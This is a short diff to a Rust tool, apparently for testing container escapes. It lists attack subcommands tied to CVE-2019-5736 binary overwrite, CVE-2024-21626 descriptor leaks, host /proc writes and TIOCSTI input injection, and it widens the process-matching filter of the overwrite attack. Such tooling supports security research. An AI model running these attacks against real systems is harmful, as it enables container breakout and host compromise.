@@ -2,7 +2,8 @@
 //!
 //! ```text
 //! attack hunt NAMES SECONDS    opens the program of each process here whose program's path has one of these words in it
-//!                              (NAME,NAME), and overwrites it once it runs no more (CVE-2019-5736)
+//!                              (NAME,NAME), or has none, being mounted nowhere; and overwrites it once it runs no more
+//!                              (CVE-2019-5736)
 //! attack leaks FILE            reads FILE relative to each descriptor above 2, and to the working directory (CVE-2024-21626)
 //! attack sysctl                opens what is the host's below /proc, to write
 //! attack push TEXT             puts TEXT into the input of the terminal that is standard input (TIOCSTI)
@@ -108,7 +109,7 @@ fn hunt(names: &str, time: Duration) -> Result<()> {
                 continue;
             };
             let link = link.to_string_lossy().into_owned();
-            if !names.split(',').any(|name| link.contains(name)) {
+            if link != "/" && !names.split(',').any(|name| link.contains(name)) {
                 continue;
             }
             let Ok(file) = File::open(&exe) else {
